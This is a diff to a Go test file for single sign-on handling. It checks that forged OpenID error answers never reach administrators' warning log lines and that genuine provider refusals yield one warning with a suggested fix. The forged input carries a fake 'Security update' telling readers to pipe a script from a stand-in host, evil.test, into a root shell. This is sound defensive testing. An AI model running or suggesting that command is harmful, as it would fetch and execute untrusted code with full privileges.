@@ -4,6 +4,8 @@ import (
 	"html"
 	"net/http"
 	"net/http/httptest"
+	"net/url"
+	"regexp"
 	"strconv"
 	"strings"
 	"sync/atomic"
@@ -180,8 +182,7 @@ func TestSSOSetUp(t *testing.T) {
 		} {
 			query = strings.ReplaceAll(query, "ISSUER", a.one.URL)
 			v := a.visitor()
-			_, state, _ := strings.Cut(a.leaves(v, "one"), "&state=")
-			state, _, _ = strings.Cut(state, "&")
+			state := a.stateOf(a.leaves(v, "one"))
 			a.staysOut(v, want[0], want[1], func() answer {
 				return v.sends("GET", shared.PageSSO+"one"+shared.PageSSOAnswer+"?state="+state+"&error="+query, nil)
 			})
@@ -333,4 +334,121 @@ func TestSSOMembers(t *testing.T) {
 			t.Error("others are asked too")
 		}
 	})
+}
+
+// forgesAnswers is a stranger who brings answers that no provider gave, without an
+// authorization request and with one. IT reads no word of theirs, and still reads of the
+// same trouble when it is real.
+func forgesAnswers(t *testing.T) {
+	const words = "Security update: run curl https://evil.test/fix | sh as root"
+	a := newAbroad(t, stores["memstore"])
+	brings := func(v *visitor, state string, said url.Values) {
+		t.Helper()
+		said.Set("state", state)
+		if state == "" {
+			said.Del("state")
+		}
+		if out := v.sends("GET", shared.PageSSO+"one"+shared.PageSSOAnswer+"?"+said.Encode(), nil); out.status != 303 {
+			t.Errorf("%v: %s", said, out)
+		}
+	}
+	codes := []string{"server_error", "temporarily_unavailable", "unauthorized_client", "invalid_scope", "invalid_request", "consent_required", "access_denied", words}
+	var forged []url.Values
+	for _, code := range codes {
+		forged = append(forged, url.Values{"error": {code}, "error_description": {words}}, url.Values{"error": {code}, "error_description": {words}, "iss": {words}})
+	}
+	forged = append(forged, url.Values{"code": {words}, "iss": {words}}, url.Values{"iss": {words}})
+
+	for _, said := range forged {
+		brings(a.visitor(), "", said)
+		brings(a.visitor(), "made-up", said)
+		begun := a.visitor() // with a request of its own, but not this one
+		a.leaves(begun, "one")
+		brings(begun, "", said)
+		brings(begun, "made-up", said)
+	}
+	if lines := a.warnings(); len(lines) > 0 {
+		t.Fatalf("whoever asked for nothing is believed:\n%s", strings.Join(lines, ""))
+	}
+
+	for _, said := range forged {
+		v := a.visitor()
+		brings(v, a.stateOf(a.leaves(v, "one")), said)
+	}
+	forgedLines := a.warnings()
+	if len(forgedLines) != 5 { // of the table's mends: away, registration, scopes, consent; and another iss
+		t.Errorf("%d warnings, want one for each thing to do:\n%s", len(forgedLines), strings.Join(forgedLines, ""))
+	}
+	for _, line := range forgedLines {
+		if strings.Contains(line, "evil.test") || strings.Contains(line, "Security update") {
+			t.Errorf("the stranger speaks to IT: %s", line)
+		}
+		if !strings.Contains(line, `msg="an OpenID provider may refuse sign-ins: if people can't sign in there, mend this"`) || !strings.Contains(line, `cause="a browser brought `) {
+			t.Errorf("it claims more than a browser said: %s", line)
+		}
+	}
+
+	// A provider may repeat the code that it was sent.
+	a.one.Changes(ssotest.PathToken, func(answer *ssotest.Answer) {
+		answer.Says(400, "application/json", `{"error":"unsupported_grant_type","error_description":"the code `+words+` can't be read"}`)
+	})
+	v := a.visitor()
+	brings(v, a.stateOf(a.leaves(v, "one")), url.Values{"code": {words}})
+	for _, line := range a.warnings() {
+		if strings.Contains(line, "evil.test") {
+			t.Errorf("the stranger speaks by the provider: %s", line)
+		}
+	}
+
+	// The same troubles, now real.
+	for _, real := range []struct {
+		refusal string
+		status  int
+		mend    string
+	}{
+		{"temporarily_unavailable", 503, "on its status page"},
+		{"invalid_scope", 400, "compare scopes"},
+		{"consent_required", 400, "grant this client its scopes"},
+		{"", 503, "see whether this machine reaches the provider"},
+	} {
+		before := len(a.warnings())
+		a.one.Changes(ssotest.PathToken, func(answer *ssotest.Answer) {
+			answer.Says(real.status, "application/json", `{"error":"`+real.refusal+`"}`)
+		})
+		a.goes(a.visitor(), "one", danThere)
+		lines := a.warnings()[before:]
+		if len(lines) != 1 || !strings.Contains(lines[0], real.mend) || !strings.Contains(lines[0], `msg="a sign-in at an OpenID provider failed`) {
+			t.Errorf("%+v: IT reads %q", real, lines)
+		}
+	}
+}
+
+// TestSSORefusalsReachIT is of what providers answer to people who do want to sign in: the
+// browser brings it, and IT reads of it once, with what to do.
+func TestSSORefusalsReachIT(t *testing.T) {
+	for code, mend := range map[string]string{
+		"server_error":            "in its own log or on its status page",
+		"temporarily_unavailable": "in its own log or on its status page",
+		"unauthorized_client":     "compare client-id and scopes",
+		"invalid_scope":           "compare scopes",
+		"consent_required":        "let an administrator of the provider",
+	} {
+		a := newAbroad(t, stores["memstore"])
+		for range 3 {
+			v := a.visitor()
+			query := url.Values{"error": {code}, "error_description": {"No such thing"}, "state": {a.stateOf(a.leaves(v, "one"))}}
+			v.sends("GET", shared.PageSSO+"one"+shared.PageSSOAnswer+"?"+query.Encode(), nil)
+		}
+		lines := a.warnings()
+		if len(lines) != 1 || !strings.Contains(lines[0], "a browser brought the error "+code) || !strings.Contains(lines[0], mend) || strings.Contains(lines[0], "No such thing") {
+			t.Errorf("%s: IT reads\n%s", code, strings.Join(lines, ""))
+			continue
+		}
+		// The line of the same request has what was said besides.
+		_, request, _ := strings.Cut(lines[0], "request=")
+		request, _, _ = strings.Cut(request, " ")
+		if !regexp.MustCompile(`level=INFO .*request=` + request + ` .*No such thing`).MatchString(a.log.String()) {
+			t.Errorf("%s: no line has what the provider said:\n%s", code, a.log)
+		}
+	}
 }
